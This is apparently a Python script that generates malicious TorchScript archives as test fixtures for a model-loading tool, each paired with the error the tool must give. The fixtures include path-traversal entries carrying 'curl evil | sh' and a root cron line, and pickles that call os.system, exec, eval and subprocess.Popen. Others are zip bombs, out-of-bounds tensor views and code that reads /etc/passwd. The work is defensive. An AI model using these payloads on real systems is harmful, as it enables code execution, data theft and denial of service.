#!/usr/bin/env python3
"""Generates the hostile TorchScript archives in this folder, each beside the error it must give.

Each case is NAME.pt and NAME.expect (see tests/bad_inputs/README.md): `zoc ir NAME.pt` must fail
with the expected message, before LibTorch is loaded (tests/run_bad_inputs.sh checks the
dynamic loader's log, bad_inputs_test.cpp the plugin loader), and `zoc compile` must leave no
output. Every archive is a small model laid out as torch.jit.save writes one (records in one
folder, stored with data descriptors, code deflated), with one hostile change.

The zip files are written byte by byte here, not with zipfile, which would refuse or repair
several of these changes; the pickles are written opcode by opcode and never unpickled. The
files are committed; this script documents how each was made and regenerates them byte for byte
(python3 standard library only, no randomness, no torch).

Run from anywhere:  python3 tests/bad_inputs/torchscript/make_cases.py
"""

import glob
import os
import struct
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
REL = "tests/bad_inputs/torchscript"
REFUSED = "torch.jit.save never writes this; zoc refused the file before loading any of it"
ALLOWED = ("which a pickle can call to run code when it is loaded (TorchScript's pickles name "
           "only torch's tensor, storage and list helpers, collections.OrderedDict, "
           "builtins.complex, torch.device and the archive's own __torch__ classes)")


# ---- pickles, opcode by opcode ----------------------------------------------------------------

def short_unicode(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def global_op(module, name):  # GLOBAL, its names inline
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


# A module object as torch.jit.save pickles it: __torch__.M(), with an empty state.
MODULE_PICKLE = b"\x80\x02" + global_op("__torch__", "M") + b")\x81}b."
EMPTY_TUPLE_PICKLE = b"\x80\x02)."


def binint(v):  # the shortest integer opcode for v, as the C++ pickler chooses
    if 0 <= v < 256:
        return b"K" + bytes([v])
    if 0 <= v < 65536:
        return b"M" + struct.pack("<H", v)
    if -2**31 <= v < 2**31:
        return b"J" + struct.pack("<i", v)
    n = (v.bit_length() + 8) // 8
    return b"\x8a" + bytes([n]) + v.to_bytes(n, "little", signed=True)


def binunicode(s):  # BINUNICODE
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def tensor_pickle(numel, offset, sizes, strides, name="weight"):
    """A module with one float tensor attribute `name`, as torch.jit.save pickles it: its storage
    ('storage', torch.FloatStorage, '0', 'cpu', numel) is the record data/0, and the tensor is
    _rebuild_tensor_v2(storage, offset, sizes, strides, False, OrderedDict()). Returns the pickle
    and the bytes of its BINPERSID and of the REDUCE that builds the tensor."""
    head = (b"\x80\x02" + global_op("__torch__", "M") + b")\x81}(" + binunicode(name)
            + global_op("torch._utils", "_rebuild_tensor_v2") + b"((" + binunicode("storage")
            + global_op("torch", "FloatStorage") + binunicode("0") + binunicode("cpu")
            + binint(numel) + b"t")
    persid_at = len(head)
    body = (head + b"Q" + binint(offset) + b"(" + b"".join(map(binint, sizes)) + b"t("
            + b"".join(map(binint, strides)) + b"t\x89" + global_op("collections", "OrderedDict")
            + b")Rt")
    return body + b"Rub.", persid_at, len(body)


def call_pickle(module, name, arg="id"):
    """module.name(arg) through GLOBAL and REDUCE: what `pickle.dumps` writes for a payload."""
    return b"\x80\x02" + global_op(module, name) + b"X" + struct.pack("<I", len(arg)) + \
        arg.encode() + b"\x85R."


# ---- zip archives, record by record -----------------------------------------------------------

def record(name, data, method=0, **changes):
    """A record as torch.jit.save writes it (data descriptor after the data, CRC and sizes in the
    directory), plus hostile `changes` (see write_zip)."""
    raw = data
    if method == 8:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        data = c.compress(raw) + c.flush()
    r = {"name": name.encode("latin-1") if isinstance(name, str) else name, "data": data,
         "method": method, "crc": zlib.crc32(raw), "compressed": len(data),
         "uncompressed": len(raw), "flags": 0x0808}
    r.update(changes)
    return r


def write_zip(records):
    """Writes the records. Keys a record may change: local_name, local_method, local_flags,
    local_sizes (crc, compressed, uncompressed in the local header, else zeros), descriptor
    (crc, compressed, uncompressed, else the real ones), zip64_uncompressed (a zip64 field in
    the directory), offset (of the local header, as the directory gives it), raw_data (the
    bytes written, if not `data`)."""
    out, central = bytearray(), bytearray()
    for r in records:
        offset = r["at"] = len(out)
        flags = r.get("local_flags", r["flags"])
        lcrc, lcomp, lunc = r.get("local_sizes", (0, 0, 0) if flags & 8 else
                                  (r["crc"], r["compressed"], r["uncompressed"]))
        local_name = r.get("local_name", r["name"])
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, r.get("local_method", r["method"]),
                           0, 0, lcrc, lcomp, lunc, len(local_name), 0) + local_name
        out += r.get("raw_data", r["data"])
        r["data_end"] = len(out)
        if flags & 8:
            out += struct.pack("<IIII", 0x08074B50, *r.get("descriptor", (
                r["crc"], r["compressed"], r["uncompressed"])))
        extra, uncompressed = b"", r["uncompressed"]
        if "zip64_uncompressed" in r:
            extra = struct.pack("<HHQ", 1, 8, r["zip64_uncompressed"])
            uncompressed = 0xFFFFFFFF
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, r["flags"], r["method"],
                               0, 0, r["crc"], r["compressed"], uncompressed, len(r["name"]),
                               len(extra), 0, 0, 0, 0, r.get("offset", offset))
        central += r["name"] + extra
    for r in records:
        r["directory_at"] = len(out)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(records), len(records), len(central),
                      len(out), 0)
    return bytes(out + central + end)


def model(*extra, data_pkl=MODULE_PICKLE, constants_pkl=EMPTY_TUPLE_PICKLE,
          constants_name="archive/constants.pkl", first=(), data_method=0, code_method=8,
          version=b"3\n", code=b"class M(Module):\n  __parameters__ = []\n",
          code_name="archive/code/__torch__/m.py"):
    """The records of a small TorchScript archive, with `first` before and `extra` after them."""
    return list(first) + [r for r in [
        record("archive/data.pkl", data_pkl, method=data_method),
        record(code_name, code, method=code_method),
        record(constants_name, constants_pkl),
        record("archive/version", version) if version is not None else None,
    ] if r] + list(extra)


# ---- the cases ---------------------------------------------------------------------------------

CASES = {}  # name -> (zip bytes, description, expected message after "NAME.pt: error: ")


def case(name, records, description, message):
    """`message` may be a function of the written records, for messages that name offsets."""
    data = write_zip(records)
    CASES[name] = (data, description, message(records) if callable(message) else message)


def unsafe_zip(what):
    return "unsafe zip archive: %s; %s" % (what, REFUSED)


def unsafe_pickle(record_name, what):
    return "unsafe pickle: record '%s' %s; %s" % (record_name, what, REFUSED)


def refers(record_name, global_name, opcode, at):
    return unsafe_pickle(record_name, "refers to the Python global '%s' (%s at byte %d), %s" % (
        global_name, opcode, at, ALLOWED))


# Record names that reach outside the folder an archive is extracted to, or hide something.
case("name_dotdot", model(record("archive/../../.bashrc", b"curl evil | sh\n")),
     "a record named archive/../../.bashrc",
     unsafe_zip("record name 'archive/../../.bashrc' has a '..' component, which points outside "
                "the archive"))
case("name_absolute", model(record("/etc/cron.d/zoc", b"* * * * * root sh\n")),
     "a record with an absolute name",
     unsafe_zip("record name '/etc/cron.d/zoc' is an absolute path"))
case("name_drive_letter", model(record("C:/Users/Public/run.bat", b"echo\n")),
     "a record named with a Windows drive letter",
     unsafe_zip("record name 'C:/Users/Public/run.bat' starts with a drive letter"))
case("name_backslash", model(record("archive\\..\\..\\evil.py", b"import os\n")),
     "a record whose name uses backslashes, Windows' folder separator, to climb out",
     unsafe_zip("record name 'archive\\\\..\\\\..\\\\evil.py' contains a backslash, a folder "
                "separator on Windows that hides '..' and absolute paths from other checks"))
case("name_nul", model(record(b"archive/extra/notes.txt\x00.pkl", b"hi\n")),
     "a record name with a NUL byte (C code would see only archive/extra/notes.txt)",
     unsafe_zip("record name 'archive/extra/notes.txt\\x00.pkl' contains the control byte 0x00 "
                "(NUL), which ends the name early for C code"))
case("name_escape_sequence", model(record(b"archive/extra/\x1b[2Jclear.txt", b"hi\n")),
     "a record name with a terminal escape sequence, printed escaped",
     unsafe_zip("record name 'archive/extra/\\x1b[2Jclear.txt' contains the control byte 0x1b"))
case("name_dot_component", model(record("archive/./data.pkl", call_pickle("os", "system"))),
     "a second data.pkl spelled archive/./data.pkl, which normalizes to the first",
     unsafe_zip("record name 'archive/./data.pkl' has an empty or '.' component, which makes one "
                "record look like another"))

# Duplicates: LibTorch's zip reader finds names ignoring case and takes either copy.
case("duplicate_record", model(record("archive/data.pkl", call_pickle("os", "system"))),
     "data.pkl twice, the second copy calling os.system",
     unsafe_zip("record 'archive/data.pkl' appears twice in the zip directory (records 1 and 5), "
                "so zoc cannot tell which copy LibTorch would read"))
case("duplicate_record_case", model(record("archive/DATA.PKL", call_pickle("os", "system"))),
     "data.pkl and DATA.PKL, the same record to LibTorch",
     unsafe_zip("records 'archive/data.pkl' and 'archive/DATA.PKL' differ only in letter case, "
                "and LibTorch, which finds records ignoring case, cannot tell them apart"))

# Pickles that name Python globals TorchScript never writes.
case("pickle_os_system", model(data_pkl=call_pickle("os", "system")),
     "data.pkl calls os.system('id'), as pickle.dumps writes such a payload",
     refers("archive/data.pkl", "os.system", "GLOBAL", 2))
case("pickle_posix_system", model(data_pkl=call_pickle("posix", "system")),
     "data.pkl calls posix.system, os.system's real home on Linux",
     refers("archive/data.pkl", "posix.system", "GLOBAL", 2))
case("pickle_nt_system", model(data_pkl=call_pickle("nt", "system")),
     "data.pkl calls nt.system, os.system's real home on Windows",
     refers("archive/data.pkl", "nt.system", "GLOBAL", 2))
case("pickle_builtins_eval", model(data_pkl=call_pickle("builtins", "eval", "1+1")),
     "data.pkl calls builtins.eval",
     refers("archive/data.pkl", "builtins.eval", "GLOBAL", 2))
case("pickle_builtins_exec_in_constants",
     model(constants_pkl=call_pickle("builtins", "exec", "import os")),
     "constants.pkl calls builtins.exec",
     refers("archive/constants.pkl", "builtins.exec", "GLOBAL", 2))
case("pickle_upper_case_name",
     model(constants_pkl=call_pickle("os", "system"), constants_name="archive/CONSTANTS.PKL"),
     "constants.pkl named CONSTANTS.PKL, which LibTorch finds as constants.pkl, calls os.system",
     refers("archive/CONSTANTS.PKL", "os.system", "GLOBAL", 2))
case("pickle_torch_hub_load", model(data_pkl=call_pickle("torch.hub", "load", "x/y")),
     "data.pkl calls torch.hub.load, which downloads and runs code: not every torch global is safe",
     refers("archive/data.pkl", "torch.hub.load", "GLOBAL", 2))
STACK_GLOBAL_POPEN = (b"\x80\x04" + short_unicode("subprocess") + b"\x94" + short_unicode("Popen")
                      + b"\x94\x93" + short_unicode("id") + b"\x85R.")
case("pickle_subprocess_stack_global", model(data_pkl=STACK_GLOBAL_POPEN),
     "data.pkl calls subprocess.Popen through STACK_GLOBAL (pickle protocol 4)",
     refers("archive/data.pkl", "subprocess.Popen", "STACK_GLOBAL", 23))
MEMO_GETATTR = (b"\x80\x04" + short_unicode("builtins") + b"q\x00" + short_unicode("getattr")
                + b"q\x01]\x940h\x00h\x01\x93.")
case("pickle_getattr_from_memo", model(data_pkl=MEMO_GETATTR),
     "data.pkl loads builtins.getattr by STACK_GLOBAL from names it put in the memo earlier",
     refers("archive/data.pkl", "builtins.getattr", "STACK_GLOBAL", 32))
COMPUTED = (b"\x80\x04" + short_unicode("os") + short_unicode("ignored") + b"0"
            + short_unicode("system") + b"\x93.")
case("pickle_stack_global_computed", model(data_pkl=COMPUTED),
     "data.pkl loads a global by STACK_GLOBAL whose module name is not pushed right before it",
     unsafe_pickle("archive/data.pkl", "loads a global whose name it computes (STACK_GLOBAL at "
                   "byte 24 without two strings pushed right before it), so zoc cannot tell "
                   "what it would run"))
case("pickle_inst", model(data_pkl=b"(S'id'\nios\nsystem\n."),
     "data.pkl in pickle protocol 0 calls os.system through INST",
     refers("archive/data.pkl", "os.system", "INST", 7))
case("pickle_extension_registry", model(data_pkl=b"\x80\x02\x82\x01)R."),
     "data.pkl loads a global through the copyreg extension registry (EXT1)",
     unsafe_pickle("archive/data.pkl", "loads a global through Python's copyreg extension "
                   "registry (EXT1 at byte 2), so zoc cannot tell what it would run"))
case("pickle_in_debug_pkl",
     model(record("archive/code/__torch__/m.py.debug_pkl", call_pickle("os", "system"),
                  method=8)),
     "the code's compressed debug pickle calls os.system (every pickle is inflated and checked)",
     refers("archive/code/__torch__/m.py.debug_pkl", "os.system", "GLOBAL", 2))
case("pickle_in_extra_file",
     model(record("archive/extra/payload.pkl", call_pickle("os", "system"))),
     "an extra .pkl record (beside the ones LibTorch reads) calls os.system",
     refers("archive/extra/payload.pkl", "os.system", "GLOBAL", 2))

# Pickles that are not pickles.
case("empty_data_pkl", model(data_pkl=b""),
     "an empty data.pkl",
     "corrupt pickle: record 'archive/data.pkl' is empty; a pickle holds at least a protocol "
     "header and a STOP opcode")
case("pickle_truncated", model(data_pkl=MODULE_PICKLE[:-3]),
     "data.pkl cut short before its STOP",
     "corrupt pickle: record 'archive/data.pkl' ends at byte %d without the STOP opcode that "
     "closes a pickle" % (len(MODULE_PICKLE) - 3))
case("pickle_cut_in_argument", model(data_pkl=b"\x80\x02X\xff\xff\x00\x00abc"),
     "data.pkl's BINUNICODE declares 65535 bytes and has 3",
     "corrupt pickle: record 'archive/data.pkl' ends inside its BINUNICODE opcode at byte 2")
case("pickle_not_a_pickle", model(data_pkl=b"not a pickle"),
     "data.pkl holds text",
     "corrupt pickle: record 'archive/data.pkl' is not a pickle: byte 0 is 0x6e, which is no "
     "pickle opcode")

# Zip bombs: declared sizes a real archive cannot have.
case("zip_bomb_declared_size",
     model(record("archive/code/__torch__/big.py", b"x" * 4096, method=8,
                  zip64_uncompressed=1 << 40)),
     "a deflated record declaring 1 TiB from a few bytes (LibTorch would allocate it)",
     unsafe_zip("record 'archive/code/__torch__/big.py' declares 1099511627776 bytes "
                "uncompressed from 20 compressed bytes, more than deflate can expand data "
                "(1032:1 at most): a zip bomb"))
case("zip_bomb_total",
     model(*[record("archive/code/__torch__/zeros%02d.py" % i, bytes(1 << 20), method=8)
             for i in range(65)]),
     "65 deflated records of 1 MiB of zeros each, each possible, together over the 64 MiB limit",
     unsafe_zip("its compressed records declare more than 64 MiB uncompressed in all (LibTorch "
                "allocates each declared size before reading a record; the code and debug "
                "information of a traced ResNet-50 take 0.35 MiB): a zip bomb"))


# Tensors whose storage or view LibTorch would build without checking, so that reading them
# (zoc extract-weights, any use of the tensor) reads memory past their bytes.
def tensor_case(name, numel, record_bytes, offset, sizes, strides, description, message):
    pickle, persid_at, reduce_at = tensor_pickle(numel, offset, sizes, strides)
    case(name, model(record("archive/data/0", b"\0" * record_bytes), data_pkl=pickle),
         description, message(persid_at, reduce_at))


tensor_case("tensor_storage_record_empty", 16, 0, 10**6, [4], [10**8],
            "a tensor (storage offset 10^6, stride 10^8) on a 16-float storage whose record is "
            "empty",
            lambda p, r: unsafe_pickle("archive/data.pkl", "gives storage 'archive/data/0' 16 "
                                       "Float elements (64 bytes; BINPERSID at byte %d), but its "
                                       "record holds 0 bytes, and LibTorch would read past them"
                                       % p))
tensor_case("tensor_storage_record_short", 16, 60, 0, [16], [1],
            "a 16-float storage whose record holds 60 bytes, one element short",
            lambda p, r: unsafe_pickle("archive/data.pkl", "gives storage 'archive/data/0' 16 "
                                       "Float elements (64 bytes; BINPERSID at byte %d), but its "
                                       "record holds 60 bytes, and LibTorch would read past them"
                                       % p))
tensor_case("tensor_view_past_storage", 16, 64, 10**6, [4], [10**8],
            "a tensor with storage offset 10^6 and stride 10^8 on a complete 16-float storage",
            lambda p, r: unsafe_pickle("archive/data.pkl", "builds tensor 'weight' (sizes [4], "
                                       "strides [100000000], storage offset 1000000; REDUCE at "
                                       "byte %d) that reaches element 301000000 of storage "
                                       "'archive/data/0', which holds 16 Float elements: LibTorch "
                                       "would read past its storage" % r))
tensor_case("tensor_view_one_past_end", 16, 64, 1, [4, 4], [4, 1],
            "a 4x4 view at storage offset 1 of a 16-float storage: its last element is one past "
            "the end",
            lambda p, r: unsafe_pickle("archive/data.pkl", "builds tensor 'weight' (sizes [4, 4], "
                                       "strides [4, 1], storage offset 1; REDUCE at byte %d) that "
                                       "reaches element 16 of storage 'archive/data/0', which "
                                       "holds 16 Float elements: LibTorch would read past its "
                                       "storage" % r))
tensor_case("tensor_view_overflow", 16, 64, 0, [3], [2**62],
            "a stride of 2^62: the view's reach overflows 64 bits",
            lambda p, r: unsafe_pickle("archive/data.pkl", "builds tensor 'weight' (sizes [3], "
                                       "strides [4611686018427387904], storage offset 0; REDUCE "
                                       "at byte %d) with a negative size, stride or offset, or "
                                       "one whose reach overflows" % r))

# Pickles LibTorch would unpickle into a crash or read differently from Python.
case("pickle_nested_tuples",
     model(data_pkl=b"\x80\x02)" + b"\x85" * 10**6 + b".", data_method=8),
     "data.pkl (deflated) nests a tuple 10^6 deep, which overflows LibTorch's stack when freed",
     unsafe_pickle("archive/data.pkl", "nests values more than 1000 deep (at byte 1002); "
                   "LibTorch frees nested values recursively, and a million levels overflow its "
                   "stack"))
case("pickle_memo_out_of_order", model(data_pkl=b"\x80\x02)q\x05."),
     "data.pkl stores memo entry 5 first (LibTorch stores it as entry 0, Python as entry 5)",
     unsafe_pickle("archive/data.pkl", "stores memo entry 5 (BINPUT at byte 3) where entry 0 comes "
                   "next, which LibTorch and Python would read differently"))

# Compressed code records that inflate to more, or to other bytes, than they declare.
case("zip_bomb_one_record",
     model(record("archive/code/__torch__/zeros.py", bytes(65 << 20), method=8), code_method=0),
     "the only deflated record, code of 65 MiB of zeros (LibTorch would allocate and inflate it)",
     unsafe_zip("record 'archive/code/__torch__/zeros.py' declares 68157440 bytes uncompressed, "
                "more than the 64 MiB zoc inflates in all (LibTorch allocates a record's declared "
                "size before reading it; the code and debug information of a traced ResNet-50 take "
                "0.35 MiB): a zip bomb"))
case("code_inflates_past_declared",
     model(record("archive/code/__torch__/big.py", b"#" * 10000, method=8, uncompressed=100)),
     "a deflated code record that declares 100 bytes and inflates to 10,000",
     unsafe_zip("record 'archive/code/__torch__/big.py' inflates to more than the 100 bytes it "
                "declares"))
case("code_crc_mismatch",
     model(record("archive/code/__torch__/n.py", b"# notes\n", method=8, crc=0x12345678)),
     "a deflated code record whose CRC is not its data's",
     "corrupt zip archive: record 'archive/code/__torch__/n.py' does not match the CRC the zip "
     "directory gives it")

# Version records LibTorch cannot read (its reader then throws from its constructor and leaks
# the archive it opened: the first input the fuzzer found with LibTorch in its build).
case("version_unreadable", model(version=b"3;\n"),
     "a version record that holds '3;' instead of a number",
     "its version record 'archive/version' holds '3;\\x0a', not the file format version number "
     "torch.jit.save writes there; zoc refused the file before loading any of it")
case("version_missing", model(version=None),
     "an archive without a version record",
     "a zip archive that is not a TorchScript model: it has no version record "
     "('archive/version'), which torch.jit.save always writes")

# Code LibTorch would run while loading the file.
SETSTATE_CODE = (b"class M(Module):\n  __parameters__ = []\n"
                 b"  def __setstate__(self: __torch__.M, state: Tuple[int]) -> NoneType:\n"
                 b"    _0 = torch.from_file(\"/etc/passwd\", False, 32, dtype=0)\n"
                 b"    return None\n")
case("code_setstate", model(record("archive/code/__torch__/s.py", SETSTATE_CODE, method=8)),
     "a class whose __setstate__, which LibTorch runs while loading, reads /etc/passwd",
     "unsafe TorchScript code: record 'archive/code/__torch__/s.py' line 3 has __setstate__, a "
     "method LibTorch runs while it loads the file, before zoc could refuse what it does; the "
     "models zoc compiles never define one; zoc refused the file before loading any of it")


# Code that overflows LibTorch's recursive parser and compiler (10,000 levels crash LibTorch 1.13)
# or that its importer crashes on: refused from the text, before LibTorch compiles it.
def code_case(name, code, description, line, what):
    """Class __torch__.M, the module data.pkl holds, as `code`: LibTorch imports it while
    loading."""
    case(name, model(code=code, code_name="archive/code/__torch__.py"), description,
         "unsafe TorchScript code: record 'archive/code/__torch__.py' line %d %s; zoc refused "
         "the file before loading any of it" % (line, what))


FORWARD = (b"class M(Module):\n  __parameters__ = []\n"
           b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n")
code_case("code_nested_brackets", FORWARD + b"    return " + b"(" * 10000 + b"x" + b")" * 10000
          + b"\n", "forward returns x in 10,000 nested brackets", 4,
          "nests brackets more than 64 deep, which overflows LibTorch's recursive parser "
          "(torch.jit.save writes a few levels)")
code_case("code_operator_chain", FORWARD + b"    return x" + b" + x" * 10000 + b"\n",
          "forward adds x to itself in one statement of 10,000 additions", 4,
          "has 10000 operators in one statement, more than LibTorch's recursive compiler takes "
          "(zoc reads at most 256; torch.jit.save writes one operation per statement)")
code_case("code_deep_blocks",
          FORWARD + b"".join(b" " * (4 + 2 * k) + b"if True:\n" for k in range(5000))
          + b" " * 10004 + b"return x\n",
          "forward nests 5,000 if-blocks", 4 + 127,
          "is indented 258 columns, blocks nested deeper than zoc lets LibTorch's recursive "
          "compiler take (zoc reads at most 256; torch.jit.save writes a few levels)")
code_case("code_class_constant_untyped",
          b"class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
          b"  scale = [\"weight\", ]\n"
          b"  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return x\n",
          "a class attribute assigned without a type, which crashes LibTorch 1.13's importer (the "
          "first crash fuzz_torchscript found with LibTorch in its build)", 5,
          "assigns class attribute 'scale' without a type, which crashes LibTorch 1.13's "
          "importer (torch.jit.save writes class constants as 'name : Final[type] = value')")


def overlapping_records():
    """outer.bin's stored data is a complete local record of inner.bin, which the directory lists
    as a record of its own: the same bytes count twice."""
    inner = record("archive/extra/inner.bin", b"A" * 64)
    single = write_zip([inner])
    outer = record("archive/extra/outer.bin", single[:inner["directory_at"]])
    records = [outer] + model()
    data = write_zip(records)
    directory_at = records[0]["directory_at"]
    inner_at = outer["at"] + 30 + len(outer["name"])
    extra = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, inner["flags"], 0, 0, 0,
                        inner["crc"], 64, 64, len(inner["name"]), 0, 0, 0, 0, 0, inner_at)
    directory = data[directory_at:data.index(b"PK\x05\x06")] + extra + inner["name"]
    n = len(records) + 1
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(directory), directory_at, 0)
    outer_end = outer["data_end"] + 16  # its data descriptor
    CASES["overlapping_records"] = (
        data[:directory_at] + directory + end,
        "a record whose local header and data lie inside another record's data",
        unsafe_zip("records 'archive/extra/outer.bin' (bytes 0 to %d) and "
                   "'archive/extra/inner.bin' (from byte %d) overlap: a zip bomb trick that "
                   "makes the same bytes count several times" % (outer_end, inner_at)))


overlapping_records()

# Directory and local headers that disagree, records outside the file, what LibTorch cannot read.
case("local_name_mismatch",
     model(record("archive/extra/notes.txt", b"hi\n", local_name=b"archive/extra/evil.pkl")),
     "a record named notes.txt in the directory and evil.pkl in its local header",
     unsafe_zip("record 'archive/extra/notes.txt' is called 'archive/extra/evil.pkl' in its local "
                "header, so readers that trust one or the other see different files"))
case("local_header_missing", model(record("archive/extra/notes.txt", b"hi\n", offset=3)),
     "a record whose directory entry points into the middle of another record",
     "corrupt zip archive: record 'archive/extra/notes.txt' has no local header at byte 3, where "
     "the zip directory says it starts")
case("local_size_mismatch",
     model(record("archive/extra/notes.txt", b"hi\n", flags=0x0800, local_flags=0x0800,
                  local_sizes=(zlib.crc32(b"hi\n"), 3, 3 << 20))),
     "a record whose local header declares 3 MiB uncompressed and the directory 3 bytes",
     "corrupt zip archive: the local header of record 'archive/extra/notes.txt' gives 3 bytes "
     "(3145728 uncompressed), the zip directory 3 (3 uncompressed)")
case("descriptor_mismatch",
     model(record("archive/extra/notes.txt", b"hi\n", descriptor=(0, 3, 1 << 30))),
     "a record whose data descriptor declares 1 GiB uncompressed",
     lambda records: "corrupt zip archive: the data descriptor after record "
     "'archive/extra/notes.txt' (byte %d) does not repeat its CRC and sizes from the zip "
     "directory" % records[-1]["data_end"])
case("record_past_end",
     model(record("archive/data/0", b"\0" * 16, compressed=1 << 30, uncompressed=1 << 30)),
     "a stored tensor record declaring 1 GiB in a file of a few hundred bytes",
     lambda records: "corrupt zip archive: record 'archive/data/0' runs past the end of the "
     "archive's records: its 1073741824 bytes start at byte %d, and the zip directory starts at "
     "byte %d" % (records[-1]["at"] + 30 + len(b"archive/data/0"), records[-1]["directory_at"]))
case("stored_size_mismatch",
     model(record("archive/data/0", b"\0" * 16, uncompressed=1 << 30)),
     "a stored record whose directory entry gives 16 bytes stored and 1 GiB uncompressed",
     "corrupt zip archive: record 'archive/data/0' is stored uncompressed, but the directory "
     "gives it 16 bytes stored and 1073741824 bytes uncompressed")
case("method_bzip2", model(record("archive/extra/notes.txt", b"hi\n", method=12)),
     "a record compressed with bzip2 (method 12)",
     "record 'archive/extra/notes.txt' uses compression method 12; LibTorch reads only stored "
     "and deflated records (methods 0 and 8)")
case("encrypted", model(record("archive/extra/notes.txt", b"hi\n", flags=0x0809)),
     "an encrypted record",
     "record 'archive/extra/notes.txt' is encrypted; LibTorch cannot read it")


# Files that are no regular file: zoc must not block on a named pipe or read /dev/zero forever.
# A symbolic link to /dev/zero (a FIFO cannot be committed; tests/unit makes one), named .pth so
# that the fuzz targets, which take every .pt file here as a seed, do not read it.
SPECIAL = {"dev_zero": ("/dev/zero", "a .pth name for /dev/zero (a symbolic link to it)",
                        "cannot read it: it is a character device, not a regular file; zoc reads "
                        "TorchScript models only from regular files")}


def main():
    for pattern in ("*.pt", "*.pth", "*.expect"):
        for path in glob.glob(os.path.join(HERE, pattern)):
            os.remove(path)
    for name, (target, description, message) in sorted(SPECIAL.items()):
        os.symlink(target, os.path.join(HERE, name + ".pth"))
        with open(os.path.join(HERE, name + ".expect"), "w") as f:
            f.write("# %s\nmodel: %s/%s.pth\nexpect: %s/%s.pth: error: %s\n"
                    % (description, REL, name, REL, name, message))
    for name, (data, description, message) in sorted(CASES.items()):
        with open(os.path.join(HERE, name + ".pt"), "wb") as f:
            f.write(data)
        lines = ["# " + description, "model: %s/%s.pt" % (REL, name),
                 "expect: %s/%s.pt: error: %s" % (REL, name, message)]
        with open(os.path.join(HERE, name + ".expect"), "w") as f:
            f.write("\n".join(lines) + "\n")
    print("make_cases: wrote %d cases to %s" % (len(CASES) + len(SPECIAL), REL))


if __name__ == "__main__":
    main()
